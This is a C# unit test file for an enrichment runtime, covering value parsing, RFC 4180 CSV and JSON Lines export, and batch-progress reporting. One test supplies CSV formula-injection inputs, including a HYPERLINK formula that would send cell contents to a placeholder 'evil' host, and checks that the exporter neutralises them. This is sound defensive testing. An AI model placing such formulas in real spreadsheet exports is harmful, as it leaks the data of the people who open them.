using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using System.Text.Json;
using System.Threading;
using System.Threading.Tasks;
using Xunit;

namespace CatchAll.Runtime.Tests;

/// <summary>
/// The runtime half of typed enrichments, on both of its targets: value reads that never throw, CSV by RFC 4180,
/// JSON Lines, and the partial-results adapter that keeps batches in order. The set below is what the generator
/// emits for a two-field type, written by hand.
/// </summary>
public sealed partial class EnrichmentRuntimeTests
{
    private sealed class Deal
    {
        public string? Name { get; set; }

        public long? Amount { get; set; }
    }

    private sealed class DealSet : EnrichmentSet<Deal>
    {
        public static readonly DealSet Instance = new();

        private DealSet()
            : base(new[] { new EnrichmentField("name", "Name", "text"), new EnrichmentField("amount", "Amount", "number"), new EnrichmentField("buyer", "Buyer", "company") })
        {
        }

        public override void Write(Utf8JsonWriter writer, Deal value)
        {
            writer.WriteStartObject();
            writer.WriteString("name", value.Name);
            if (value.Amount is { } amount) writer.WriteNumber("amount", amount);
            else writer.WriteNull("amount");
            writer.WriteNull("buyer");
            writer.WriteEndObject();
        }

        protected override Deal ReadCore(ref Utf8JsonReader reader, ref EnrichmentReadState state)
        {
            string? name = null;
            long? amount = null;
            while (reader.Read() && reader.TokenType != JsonTokenType.EndObject)
            {
                if (reader.ValueTextEquals("name"u8))
                {
                    reader.Read();
                    if (!EnrichmentValue.TryText(ref reader, out name)) state.Problem("name", "text", ref reader);
                }
                else if (reader.ValueTextEquals("amount"u8))
                {
                    reader.Read();
                    if (!EnrichmentValue.TryInt64(ref reader, out amount)) state.Problem("amount", "number", ref reader);
                }
                else state.Other(ref reader);
            }

            return new Deal { Name = name, Amount = amount };
        }

        protected override void AppendCells(Deal value, IList<string?> cells)
        {
            cells.Add(value.Name);
            cells.Add(value.Amount?.ToString(System.Globalization.CultureInfo.InvariantCulture));
            cells.Add("Buyer, Inc.");
            cells.Add("0.5");
        }
    }

    private static JsonElement Json(string json) => JsonDocument.Parse(json).RootElement.Clone();

    private static IDictionary<string, JsonElement> Fields(string json) =>
        Json(json).EnumerateObject().ToDictionary(p => p.Name, p => p.Value);

    [Theory]
    [InlineData("12", 12.0)]
    [InlineData("\"12\"", 12.0)]
    [InlineData("\"1,234.5\"", 1234.5)]
    [InlineData("\"-3e2\"", -300.0)]
    [InlineData("\" 7 \"", 7.0)]
    [InlineData("\"-25,000,000.5\"", -25000000.5)]
    public void Numbers_read_from_numbers_and_invariant_numeric_strings(string json, double expected)
    {
        Assert.True(EnrichmentValue.TryDouble(Json(json), out var d));
        Assert.Equal(expected, d);
        Assert.True(EnrichmentValue.TryDecimal(Json(json), out var m));
        Assert.Equal((decimal)expected, m);
    }

    [Theory]
    [InlineData("\"12,5\"")]
    [InlineData("\"1,2345\"")]
    [InlineData("\"1234,567\"")]
    [InlineData("\"1.5,000\"")]
    [InlineData("\"twelve\"")]
    [InlineData("true")]
    [InlineData("[1]")]
    [InlineData("{}")]
    [InlineData("\"NaN\"")]
    [InlineData("\"1e400\"")]
    public void What_is_not_a_number_fails_without_throwing(string json)
    {
        Assert.False(EnrichmentValue.TryDouble(Json(json), out var value));
        Assert.Null(value);
    }

    [Theory]
    [InlineData("null")]
    [InlineData("\"\"")]
    [InlineData("\"  \"")]
    public void Null_and_empty_read_as_null_and_succeed(string json)
    {
        Assert.True(EnrichmentValue.TryDecimal(Json(json), out var number));
        Assert.Null(number);
        Assert.True(EnrichmentValue.TryDate(Json(json), out var date));
        Assert.Null(date);
        Assert.True(EnrichmentValue.TryUrl(Json(json), out var url));
        Assert.Null(url);
        Assert.True(EnrichmentValue.TryOption(Json(json), out var key));
        Assert.Null(key);
    }

    [Fact]
    public void Integers_are_range_checked_and_must_be_whole()
    {
        Assert.True(EnrichmentValue.TryByte(Json("255"), out var b));
        Assert.Equal((byte)255, b);
        Assert.False(EnrichmentValue.TryByte(Json("256"), out _));
        Assert.False(EnrichmentValue.TryInt32(Json("2.5"), out _));
        Assert.True(EnrichmentValue.TryInt32(Json("\"2.0\""), out var i));
        Assert.Equal(2, i);
        Assert.False(EnrichmentValue.TryUInt64(Json("-1"), out _));
        Assert.True(EnrichmentValue.TryUInt64(Json("18446744073709551615"), out var u));
        Assert.Equal(ulong.MaxValue, u);
        Assert.False(EnrichmentValue.TrySingle(Json("1e39"), out _));
    }

    [Theory]
    [InlineData("\"2026-03-02T10:30:00Z\"", 2026, 3, 2)]
    [InlineData("\"2026-03-02T10:30:00\"", 2026, 3, 2)]
    [InlineData("\"March 2, 2026\"", 2026, 3, 2)]
    [InlineData("\"2 March 2026\"", 2026, 3, 2)]
    [InlineData("\"Mar 2, 2026\"", 2026, 3, 2)]
    [InlineData("\"2026-03\"", 2026, 3, 1)]
    [InlineData("\"March 2026\"", 2026, 3, 1)]
    public void Dates_in_forms_with_a_year_and_no_numeric_ambiguity_are_read(string json, int year, int month, int day)
    {
        Assert.True(EnrichmentValue.TryDate(Json(json), out var date));
        Assert.Equal(new DateOnly(year, month, day), DateOnly.FromDateTime(date!.Value.UtcDateTime));
    }

    // An open parse read "05/12/2026" as May 12 (a European source means 5 December) and "10:30" as today, from the
    // machine's clock: wrong values with no problem recorded. They are refused, so the reader keeps them as problems.
    [Theory]
    [InlineData("\"05/12/2026\"")]
    [InlineData("\"10:30\"")]
    [InlineData("\"10:30 AM\"")]
    [InlineData("\"March 2\"")]
    [InlineData("\"next Tuesday\"")]
    public void Ambiguous_or_yearless_dates_are_refused(string json)
    {
        Assert.False(EnrichmentValue.TryDate(Json(json), out _));
    }

    [Fact]
    public void Dates_urls_and_options_read_tolerantly()
    {
        Assert.True(EnrichmentValue.TryDate(Json("\"2026-02-17\""), out var date));
        Assert.Equal(new DateTimeOffset(2026, 2, 17, 0, 0, 0, TimeSpan.Zero), date);
        Assert.False(EnrichmentValue.TryDate(Json("20260217"), out _));
        Assert.True(EnrichmentValue.TryUrl(Json("\"vulncheck.com\""), out var url));
        Assert.Equal("https://vulncheck.com/", url!.AbsoluteUri);
        Assert.False(EnrichmentValue.TryUrl(Json("\"ftp://example.com\""), out _));
        Assert.False(EnrichmentValue.TryUrl(Json("\"not a url\""), out _));
        Assert.True(EnrichmentValue.TryOption(Json("\"Series-B \""), out var key));
        Assert.Equal("seriesb", key);
        Assert.False(EnrichmentValue.TryOption(Json("3"), out _));
    }

    [Fact]
    public void Enrich_splits_declared_from_unknown_fields_and_collects_problems()
    {
        var values = Fields("""{ "name": "Acme", "amount": "lots", "rumour": true }""");

        var enriched = DealSet.Instance.Enrich("the record", "r1", "Title", "high", values);

        Assert.Equal("the record", enriched.Record);
        Assert.Equal("Acme", enriched.Enrichment.Name);
        Assert.Null(enriched.Enrichment.Amount);
        var problem = Assert.Single(enriched.Problems);
        Assert.Equal("amount", problem.Name);
        Assert.Equal("lots", problem.Value.GetString());
        Assert.Equal("rumour", Assert.Single(enriched.UnknownFields).Key);
        Assert.Empty(DealSet.Instance.Enrich("x", "r2", "T", null, null).UnknownFields);
    }

    [Fact]
    public async Task Csv_quotes_only_what_rfc_4180_requires()
    {
        var records = new[]
        {
            DealSet.Instance.Enrich("x", "r1", "Plain title", "high", Fields("""{ "name": "Quote \" inside", "amount": 5 }""")),
            DealSet.Instance.Enrich("x", "r,2", "Line\r\nbreak", null, Fields("""{ "name": "" }""")),
        };

        var writer = new StringWriter();
        var count = await DealSet.Instance.WriteCsvAsync(ToAsync(records), writer);

        Assert.Equal(2, count);
        Assert.Equal(new[] { "name", "amount", "buyer", "buyer_confidence" }, DealSet.Instance.CsvHeaders);
        Assert.Equal(
            "record_id,record_title,enrichment_confidence,name,amount,buyer,buyer_confidence\r\n"
            + "r1,Plain title,high,\"Quote \"\" inside\",5,\"Buyer, Inc.\",0.5\r\n"
            + "\"r,2\",\"Line\r\nbreak\",,,,\"Buyer, Inc.\",0.5\r\n",
            writer.ToString());
    }

    // Titles and extracted text come from arbitrary web pages; a spreadsheet opening the export would run them.
    [Fact]
    public async Task Csv_neutralises_cells_a_spreadsheet_would_run_as_formulas_and_leaves_numbers_alone()
    {
        var records = new[]
        {
            DealSet.Instance.Enrich("x", "r1", "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", null, Fields("""{ "name": "@SUM(1+1)", "amount": -3 }""")),
            DealSet.Instance.Enrich("x", "r2", "+cmd", null, Fields("""{ "name": "-2+3", "amount": 4 }""")),
        };

        var writer = new StringWriter();
        await DealSet.Instance.WriteCsvAsync(ToAsync(records), writer);

        var lines = writer.ToString().Split("\r\n");
        Assert.Equal("r1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",,'@SUM(1+1),-3,\"Buyer, Inc.\",0.5", lines[1]);
        Assert.Equal("r2,'+cmd,,'-2+3,4,\"Buyer, Inc.\",0.5", lines[2]);
    }

    [Fact]
    public async Task Json_lines_write_one_compact_object_per_record()
    {
        var records = Enumerable.Range(0, 3).Select(i => DealSet.Instance.Enrich("x", "r" + i, "T" + i, null, Fields("{ \"amount\": " + i + " }")));

        var stream = new MemoryStream();
        var count = await DealSet.Instance.WriteJsonLinesAsync(ToAsync(records), stream);

        var lines = Encoding.UTF8.GetString(stream.ToArray()).Split('\n');
        Assert.Equal(3, count);
        Assert.Equal("{\"record_id\":\"r1\",\"record_title\":\"T1\",\"enrichment_confidence\":null,\"enrichment\":{\"name\":null,\"amount\":1,\"buyer\":null}}", lines[1]);
        Assert.Equal(string.Empty, lines[3]);
    }

    [Fact]
    public void The_adapter_reports_typed_batches_to_a_plain_receiver_at_once()
    {
        var received = new List<IReadOnlyList<EnrichedRecord<string, Deal>>>();
        var adapted = EnrichmentProgress.Adapt<string, Deal>(new Collector(received), r => DealSet.Instance.Enrich(r, r, r, null, null), CancellationToken.None);

        adapted.Report(new[] { "a", "b" });
        adapted.Report(new[] { "c" });

        Assert.Equal(new[] { "a,b", "c" }, received.Select(b => string.Join(",", b.Select(r => r.RecordId))));
    }

    [Fact]
    public async Task The_adapter_waits_for_a_progress_handler_before_the_next_batch()
    {
        var order = new List<string>();
        var gate = new object();
        var target = new Progress<IReadOnlyList<EnrichedRecord<string, Deal>>>(batch =>
        {
            lock (gate)
            {
                order.Add(string.Join(",", batch.Select(r => r.RecordId)));
            }
        });
        var adapted = EnrichmentProgress.Adapt<string, Deal>(target, r => DealSet.Instance.Enrich(r, r, r, null, null), CancellationToken.None);

        // What the wait does with the adapter: ProgressReporting awaits each report until it has been handled.
        await ProgressReporting.ReportAsync(adapted, new[] { "a" }, CancellationToken.None);
        lock (gate)
        {
            Assert.Equal(new[] { "a" }, order);
        }

        await ProgressReporting.ReportAsync(adapted, new[] { "b", "c" }, CancellationToken.None);
        lock (gate)
        {
            Assert.Equal(new[] { "a", "b,c" }, order);
        }
    }

    private static async IAsyncEnumerable<T> ToAsync<T>(IEnumerable<T> items)
    {
        foreach (var item in items)
        {
            await Task.Yield();
            yield return item;
        }
    }

    private sealed class Collector(List<IReadOnlyList<EnrichedRecord<string, Deal>>> received) : IProgress<IReadOnlyList<EnrichedRecord<string, Deal>>>
    {
        public void Report(IReadOnlyList<EnrichedRecord<string, Deal>> value) => received.Add(value);
    }
}
